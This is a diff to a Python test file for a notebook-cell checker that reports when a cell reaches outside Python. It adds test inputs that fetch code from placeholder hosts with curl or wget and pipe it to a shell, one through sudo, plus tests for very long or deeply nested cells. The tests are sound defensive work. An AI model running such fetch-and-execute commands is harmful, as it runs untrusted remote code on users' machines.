@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+import time
 from collections.abc import Iterator
 
 import pytest
@@ -149,6 +150,10 @@ CELLS = {
         SHELL_URL,
     "!bash <(curl -s https://e.example)":
         SHELL_URL,
+    "!(curl https://a.example || wget -O- https://b.example) | sudo sh": SHELL_URL,
+    "!sh -c `curl https://e.example`": SHELL_URL,
+    "!. <(curl https://e.example)": SHELL_URL,
+    "!curl https://e.example | tee x | /bin/bash -s": SHELL_URL,
     "!sh -c \"$(curl -fsSL https://e.example)\"":
         SHELL_URL,
     "!curl https://e.example | python3 -":
@@ -253,10 +258,8 @@ def test_what_a_cell_does_outside_of_python_is_said(shell: Shell, cell: str) -> 
         "import shutil\nshutil.copy('a/b', 'c')",
         "rm = 1\nrm -1",
         "%pip show pip",
-        "!" * 300_000,
-        "(" * 5000,
-        "+".join(["x"] * 20_000),
-        "x" + ".a" * 5000,
+        "(" * 150,
+        "x" + ".a" * 300,
     ],
 )
 def test_of_ordinary_code_nothing_is_said(shell: Shell, cell: str) -> None:
@@ -268,6 +271,43 @@ def test_of_ordinary_cells_only_what_is_so_is_said(shell: Shell, cell: str) -> N
     said = effects_of(cell, shell.ip.transform_cell)
 
     assert not said or any(sign in cell for sign in ("!", "%", "subprocess", "open("))
+
+
+UNSEEN = "This cell is too {} to be looked over: read all of it before it runs."
+
+
+@pytest.mark.parametrize("many", [900, 5_000, 20_000])
+@pytest.mark.parametrize("deep", ["+x", "+'a'", " or x", ".a"])
+def test_what_nests_deep_hides_nothing(shell: Shell, deep: str, many: int) -> None:
+    cell = f"y = x{deep * many}\n!ls"
+
+    # How deep it may be is Python's to say.
+    assert effects_of(cell, shell.ip.transform_cell) in (UNSEEN.format("deep"), SHELL)
+
+
+def test_what_is_too_long_to_look_over_is_said(shell: Shell) -> None:
+    said = effects_of("#" * 300_000 + "\n!ls", shell.ip.transform_cell)
+
+    assert said == UNSEEN.format("long")
+
+
+def test_a_long_path_hides_nothing(shell: Shell) -> None:
+    path = "x" + ".a" * 300
+    cell = f"y = {path}\nimport os as o\ny = o.system({path}())"
+
+    assert effects_of(cell, shell.ip.transform_cell) == SHELL
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["curl ", "sh (", "pip -a ", "a@a.", "| sh ", "pip install x;", "PIP_A=b ", "( ` "],
+)
+def test_a_long_command_is_looked_at_in_no_time(text: str) -> None:
+    command = text * (150_000 // len(text))
+    begun_s = time.process_time()
+    effects_of("x", lambda _: f"import os; os.system({command!r})")
+
+    assert time.process_time() - begun_s < 5
 
 
 def test_an_object_of_the_users_is_asked_nothing() -> None:
